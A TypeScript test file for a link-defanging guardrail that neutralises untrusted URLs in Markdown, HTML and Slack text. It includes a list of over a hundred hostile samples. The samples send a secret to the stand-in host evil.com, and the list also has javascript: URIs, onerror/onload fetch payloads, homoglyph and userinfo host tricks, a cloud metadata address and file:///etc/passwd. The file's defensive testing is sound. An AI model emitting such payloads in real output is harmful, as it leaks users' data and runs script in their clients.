import fc from 'fast-check';
import { lexer, type Token, type Tokens } from 'marked';
import { describe, expect, test } from 'vitest';
import { defang } from '../../../../src/workers/guardrails/links/defang.ts';
import { createLinkHosts } from '../../../../src/workers/guardrails/links/link-hosts.ts';

const isListed = createLinkHosts(['good.example', 'docs.good.example', '*.corp.example']);
const safe = (text: string): string => defang(text, isListed);

/** Everything a Markdown reader (CommonMark with GitHub's autolinks) makes a link or an image of. */
function markdownTargets(text: string): string[] {
  const targets: string[] = [];
  const visit = (tokens: readonly Token[] | undefined): void => {
    for (const token of tokens ?? []) {
      if (token.type === 'link' || token.type === 'image') targets.push(decode((token as Tokens.Link).href));
      if (token.type === 'html') targets.push(...htmlTargets(token.raw));
      visit('tokens' in token ? token.tokens : undefined);
      if (token.type === 'list') visit((token as Tokens.List).items);
      if (token.type === 'table') {
        const { header, rows } = token as Tokens.Table;
        for (const cell of [...header, ...rows.flat()]) visit(cell.tokens);
      }
    }
  };
  visit(lexer(text));
  return targets;
}

const decode = (text: string): string =>
  text
    .replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
    .replace(/&#x([0-9a-f]+);/gi, (_, code) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replace(/&colon;/g, ':')
    .replace(/&sol;/g, '/')
    .replace(/&period;/g, '.')
    .replace(/&(?:Tab|NewLine);/g, '')
    .replace(/&amp;/g, '&');

/** Every attribute of HTML that could lead or load somewhere. */
const htmlTargets = (html: string): string[] =>
  [
    ...html.matchAll(
      /<[a-z][^>]*?\s(?:href|src|srcset|action|formaction|data|background|poster|style|xlink:href|content|on\w+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi,
    ),
  ].map((match) => decode(match[1]?.replace(/^["']|["']$/g, '') ?? ''));

/** Slack's mrkdwn: `<url|label>` is a link unless it begins with @, # or !; text with a scheme, `www.` or a known domain is one too. */
function slackTargets(text: string): string[] {
  const angles = [...text.matchAll(/<([^<>|]+)(?:\|[^<>]*)?>/g)].map((match) => match[1] ?? '');
  const dates = [...text.matchAll(/<!date\^[^<>]*\^([^<>^|]+)(?:\|[^<>]*)?>/g)].map((match) => match[1] ?? '');
  const links = angles.filter(
    (inner) => !/^[@#!]/.test(inner) && /^[a-z][a-z0-9+.-]*:|\w\.[a-z]+(?:$|[/?#:])/i.test(inner),
  );
  return [...links, ...dates.filter((inner) => inner.includes('://')), ...textTargets(text)];
}

/** What clients make a link of in plain text. */
const textTargets = (text: string): string[] => [
  ...[...text.matchAll(/(?:https?|ftp|wss?):[/\\]*[^\s<>|/\\][^\s<>|]*|file:[/\\]+[^\s<>|]+/gi)].map(([url]) =>
    url.replace(/[)\]}.,;:!?'"*_`~|…]+$/, ''),
  ),
  ...[...text.matchAll(/(?:javascript|vbscript):\S+|data:[\w.+-]+\/[\w.+-]+[;,]\S*/gi)].map(([url]) => url),
  ...[
    ...withoutListed(withoutCode(text)).matchAll(
      /(?<![\w.@/-])(?:[a-z0-9-]+\.)+(?:com|net|org|io|xyz|dev|app|zip|ru|cn|top)(?![\w-])/gi,
    ),
  ].map(([host]) => `https://${host}/`),
  ...[...withoutListed(text).matchAll(/(?<![\w@])www\.[a-z0-9-]+(?:\.[a-z0-9-]+)*/gi)].map(
    ([host]) => `https://${host}/`,
  ),
];

/** Where no client makes a link of a bare name. */
const withoutCode = (text: string): string =>
  text.replace(/```[^`]*```/g, ' ').replace(/(?<![`\\])`[^`\n]+`(?!`)/g, ' ');

/** A client that found a URL does not look for names inside it. */
const withoutListed = (text: string): string =>
  text.replace(/(?:https?:\/\/|(?<![\w@.-]))[a-z0-9.-]+\.[a-z]+[/?#][^\s<]*/gi, (url) =>
    isHarmless(url.includes('://') ? url : `https://${url}`) ? ' ' : url,
  );

function isHarmless(given: string): boolean {
  // No punctuation at its end makes another host of it.
  const target = given.replace(/^[[({"']+/, '').replace(/(?:[)\]}>.,;:!?'"*_`~|…]|%3E)+$/, '');
  if (target === '' || /^#/.test(target)) return true;
  if (/^(?:mailto:)?[\w.+-]+@[\w.-]+$/.test(target)) return true;
  if (/^[a-z0-9.-]+\.[a-z]+(?:[/?#]|$)/.test(target)) return isHarmless(`https://${target}`);
  const url = URL.canParse(target) ? new URL(target) : null;
  if (url === null) return !/[:/\\]|^\s*\/\//.test(target) || /^[^:/\\]*$/.test(target);
  return (
    ['http:', 'https:'].includes(url.protocol) && url.username === '' && url.password === '' && isListed(url.hostname)
  );
}

const clickable = (text: string): string[] =>
  [...markdownTargets(text), ...slackTargets(text)].filter((target) => !isHarmless(target));

const SECRET = 'c2VjcmV0LWRhdGE';
const evil = `https://evil.com/x?d=${SECRET}`;

/** All of these are links or images to some client before they are defanged. */
const hostile: readonly string[] = [
  evil,
  `HTTPS://EVIL.COM/x?d=${SECRET}`,
  `see ${evil}.`,
  `(${evil})`,
  `"${evil}"`,
  `**${evil}**`,
  `~~${evil}~~`,
  `\`${evil}\``,
  `\`\`\`\n${evil}\n\`\`\``,
  `    ${evil}`,
  `> ${evil}`,
  `- ${evil}`,
  `| a |\n|---|\n| ${evil} |`,
  `[label](${evil})`,
  `[label](<${evil}>)`,
  `[label](${evil} "title")`,
  `[label](\n${evil}\n)`,
  `[a [b](${evil}) c](${evil})`,
  `[label\n](${evil})`,
  `[](${evil})`,
  `![](${evil})`,
  `![alt](${evil} 'title')`,
  `[![alt](${evil})](${evil})`,
  `[![alt](https://good.example/i.png)](${evil})`,
  `[https://good.example/](${evil})`,
  `[good.example](${evil})`,
  `[label][id]\n\n[id]: ${evil}`,
  `[label][]\n\n[label]: <${evil}> "t"`,
  `[label]\n\n[label]:\n${evil}`,
  `![label][id]\n\n   [id]: ${evil}`,
  `> [label][id]\n>\n> [id]: ${evil}`,
  `[label](https&colon;//evil.com/${SECRET})`,
  `[label](https&#58;//evil.com/${SECRET})`,
  `[label](https&#x3a;&#47;&sol;evil&period;com/${SECRET})`,
  `[label](&#104;ttps://evil.com/${SECRET})`,
  `[label](https\\://evil.com/${SECRET})`,
  `[label](https:\\//evil\\.com/${SECRET})`,
  `[label](//evil.com/${SECRET})`,
  `[label](\\\\evil.com/${SECRET})`,
  `[label](/\\evil.com/${SECRET})`,
  `[label](https:evil.com/${SECRET})`,
  `[label](https:/evil.com/${SECRET})`,
  `[label](https:///evil.com/${SECRET})`,
  `[label](javascript:alert(1))`,
  `[label](JaVaScRiPt:alert(1))`,
  `[label](java\u00adscript:alert(1))`,
  `[label](java&Tab;script:alert(1))`,
  `[label](javascript&colon;alert(1))`,
  `[label](vbscript:msgbox)`,
  `[label](data:text/html;base64,${SECRET})`,
  `[label](file:///etc/passwd)`,
  `[label](slack://open?team=${SECRET})`,
  `[label](ms-word:ofe|u|https://evil.com/${SECRET})`,
  `[label](https://good.example@evil.com/${SECRET})`,
  `[label](https://good.example:80@evil.com/${SECRET})`,
  `[label](https://good.example%40evil.com/${SECRET})`,
  `[label](https://good.example\\@evil.com/${SECRET})`,
  `[label](https://good.example.evil.com/${SECRET})`,
  `[label](https://evil.com/https://good.example/${SECRET})`,
  `[label](https://evil.com#good.example/${SECRET})`,
  `[label](https://evil.com?good.example/${SECRET})`,
  `https://good.example'@evil.com/${SECRET}`,
  `https://good.example,x.evil.com/${SECRET}`,
  `https://good.example>@evil.com/${SECRET}`,
  `https://good.example|@evil.com/${SECRET}`,
  `https://good.example)@evil.com/${SECRET}`,
  `https://good.example/@evil.com/${SECRET}`,
  `https://good.example。evil.com/${SECRET}`,
  `https://good.example\u200b.evil.com/${SECRET}`,
  `https://good.example\u2060.evil.com/${SECRET}`,
  `https://goоd.example/${SECRET}`,
  `https://gооd.example/${SECRET}`,
  `https://xn--god-0na.example/${SECRET}`,
  `https://ｇｏｏｄ.ｅｘａｍｐｌｅ/${SECRET}`,
  `https://evil。com/${SECRET}`,
  `https://evil．com/${SECRET}`,
  `https://evil｡com/${SECRET}`,
  `https://e\u00advil.com/${SECRET}`,
  `ht\u200btps://evil.com/${SECRET}`,
  `https:\u200b//evil.com/${SECRET}`,
  `http://2130706433/${SECRET}`,
  `http://0x7f.1/${SECRET}`,
  `http://[::1]/${SECRET}`,
  `http://169.254.169.254/latest/meta-data`,
  `ftp://evil.com/${SECRET}`,
  `wss://evil.com/${SECRET}`,
  `//evil.com/${SECRET}`,
  `evil.com`,
  `evil.com..readme.md`,
  `.evil.com.`,
  `a..evil.com`,
  `evil.com/${SECRET}`,
  `${SECRET}.evil.com`,
  `www.evil.com`,
  `WWW.EVIL.COM/${SECRET}`,
  `evil.com:8080/${SECRET}`,
  `x@evil.com/${SECRET}`,
  `mailto:x@evil.com?body=${SECRET}`,
  `<mailto:x@evil.com?body=${SECRET}>`,
  `<${evil}>`,
  `<${evil}|label>`,
  `<${evil}|https://good.example/>`,
  `<evil.com|label>`,
  `<javascript:alert(1)|label>`,
  `<!date^1392734382^Posted^${evil}|then>`,
  `<//evil.com/${SECRET}|label>`,
  `<a href="${evil}">label</a>`,
  `<a href='${evil}'>label</a>`,
  `<a href=${evil}>label</a>`,
  `<A HREF="${evil}">label</A>`,
  `<a\nhref="${evil}"\n>label</a>`,
  `<a/href="${evil}">label</a>`,
  `<a title=">" href="${evil}">label</a>`,
  `<a title="<" href="${evil}">label</a>`,
  `<a href="https&colon;//evil.com/${SECRET}">label</a>`,
  `<a href="java&#10;script:alert(1)">label</a>`,
  `<img src="${evil}">`,
  `<img src=x onerror="fetch('//evil.com/${SECRET}')">`,
  `<svg onload=fetch("//evil.com/${SECRET}")>`,
  `<iframe src="${evil}"></iframe>`,
  `<b style="background:url(${evil})">x</b>`,
  `<link rel=stylesheet href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<form action="${evil}"><button>x</button></form>`,
  `<video poster="${evil}"></video>`,
  `<<b a=1>a href="${evil}">label</a>`,
  `<a <a href="${evil}">label</a>`,
  `ht<b x=1>tps://evil.com/${SECRET}`,
  `[label]<b x=1>(${evil})`,
  `<custom-tag href="${evil}">`,
  `https://evil.com/${'a'.repeat(3000)}`,
  `x`.repeat(60) + evil,
  `git+${evil}`,
  `view-source:${evil}`,
  `[x]: ${evil}\n[x]`,
  `\\[x](${evil})`,
  `[x\\](${evil})`,
  `!\\[x](${evil})`,
  `[x] (${evil})`,
  `\u202e${evil}`,
  `текст${evil}текст`,
  `请看${evil}，谢谢`,
];

describe('a hostile text', () => {
  test('is a link somewhere before it is defanged, so that the judges are worth something', () => {
    const harmless = hostile.filter(
      (text) => clickable(text).length === 0 && clickable(text.normalize('NFKC')).length === 0,
    );
    expect(harmless.length).toBeLessThan(hostile.length / 3);
    expect(hostile.length).toBeGreaterThan(100);
  });

  test.each(hostile)('%j has no link left, and what it would have carried out is in none', (text) => {
    const result = safe(text);
    expect(clickable(result)).toEqual([]);
    expect(safe(result)).toBe(result);
  });

  test('with a listed host in its place stays as it is', () => {
    for (const text of [
      'https://good.example/x?d=1',
      '[label](https://good.example/a_(b)?c=d&e=f#g)',
      '![chart](https://docs.good.example/chart.png "Chart")',
      '[label][id]\n\n[id]: https://good.example/x',
      '<https://good.example/x>',
      '<https://good.example/x|label>',
      'see https://good.example.',
      '(https://good.example)',
      '**https://a.corp.example/x**',
      'good.example/x',
      'https://good.example/sites/other.com/x?u=www.other.com',
      'www.corp.example and https://www.corp.example/x',
      '`curl https://good.example/x`',
    ]) {
      expect(safe(text)).toBe(text);
    }
  });
});

describe('what is left of a link', () => {
  test.each([
    [evil, 'hxxps://evil[.]com/…'],
    ['http://evil.com', 'hxxp://evil[.]com'],
    [`see ${evil}, then`, 'see hxxps://evil[.]com/…, then'],
    [`[label](${evil})`, '[label] (hxxps://evil[.]com/…)'],
    [`![alt](${evil})`, '![alt] (hxxps://evil[.]com/…)'],
    [`<${evil}|label>`, 'label (hxxps://evil[.]com/…)'],
    [`<a href="${evil}">label</a>`, 'label'],
    ['https://good.example@evil.com/x', 'hxxps://evil[.]com/…'],
    ['https://gооd.example/x', 'hxxps://xn--gd-fmca[.]example/…'],
    ['mailto:x@evil.com?body=y', 'x@evil.com'],
    ['请看https://evil.com/x，谢谢大家', '请看hxxps://evil[.]com/…，谢谢大家'],
    ['javascript:alert(1)', 'javascript[:]alert(1)'],
    ['https://good.example/@evil.com/x', 'hxxps://good[.]example/…'],
    ['ht\u200btps://evil.com/x', 'hxxps://evil[.]com/…'],
    ['https://e\u00advil.com/x', 'hxxps://evil[.]com/…'],
    ['https\\://evil\\.com/x', 'hxxps://evil[.]com/…'],
    ['https&#58;//x', 'https&amp;#58;//x'],
    ['slack://open?x', 'slack[:]//open/…'],
  ])('%j reads %j', (text, expected) => {
    expect(safe(text)).toBe(expected);
  });

  test.each([
    'Plain words, 3.14 and 1.2.3.4; e.g. this, i.e. that. Node.js and README.md, main.rs, a.b.c.',
    'src/workers/tools/toolbox.ts and ./a/b.test.ts, C:\\Users\\me\\file.txt',
    'const list: Map<string, number> = new Map(); if (a < b && c > d) return Promise<void>;',
    'interface A { [key: string]: number } // a comment',
    'Write to someone@mail.example or <@U0123ABC> in <#C0123ABC|general>.',
    'Ratio 3:4, time 12:30, note: important; data: none. https: the protocol.',
    'Émoji 👩‍👩‍👧 and فارسی می‌خواهم stay.',
    '[1] a footnote, [x] done, [ ] open, f(x)[0] and arr[1] (2)',
    'AT&T, R&amp;D, 5 &lt; 6',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    'Use `user.id` and `req.params.name`.\n```ts\nconsole.info(event.author.name, file.date);\n```',
  ])('honest text stays as it is: %j', (text) => {
    expect(safe(text)).toBe(text);
  });
});

describe('for any text', () => {
  const piece = fc.constantFrom(
    ...[
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      ':',
      '//',
      '/',
      '\\',
      '.',
      '|',
      '"',
      "'",
      '@',
      '#',
      '&',
      ';',
      '=',
      ' ',
      '\n',
    ],
    ...['http', 'https', 'https://', 'evil.com', 'evil', 'com', 'www.', 'good.example', 'https://good.example', 'x'],
    ...[
      '&colon;',
      '&#58;',
      '&sol;',
      '&amp;',
      '&#',
      '58;',
      '\u200b',
      '\u00ad',
      '。',
      'javascript:',
      'data:',
      '<a ',
      'href=',
    ],
    ...['](', ']:', '<img src=', '[x]', '`', '*', '_', '~', '/x?d=1', '<b a=1>', 'mailto:', 'hxxps://', '[.]', '…'],
  );
  const texts = fc.array(piece, { maxLength: 24 }).map((pieces) => pieces.join(''));

  test('nothing is left to click, and a second look changes nothing', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const result = safe(text);
        expect(safe(result)).toBe(result);
        expect(clickable(result), encodeURI(text)).toEqual([]);
      }),
      { numRuns: 20_000, seed: 20 },
    );
  });

  test('any string at all is left the same by a second look', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const result = safe(text);
        expect(safe(result)).toBe(result);
      }),
      { numRuns: 3_000 },
    );
  });

  test('no host but a listed one is clickable, whatever its name', () => {
    fc.assert(
      fc.property(fc.webUrl({ withFragments: true, withQueryParameters: true }), (url) => {
        for (const text of [url, `[x](${url})`, `<${url}|x>`, `<a href="${url}">`, `[x][y]\n\n[y]: ${url}`]) {
          expect(clickable(safe(text))).toEqual([]);
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
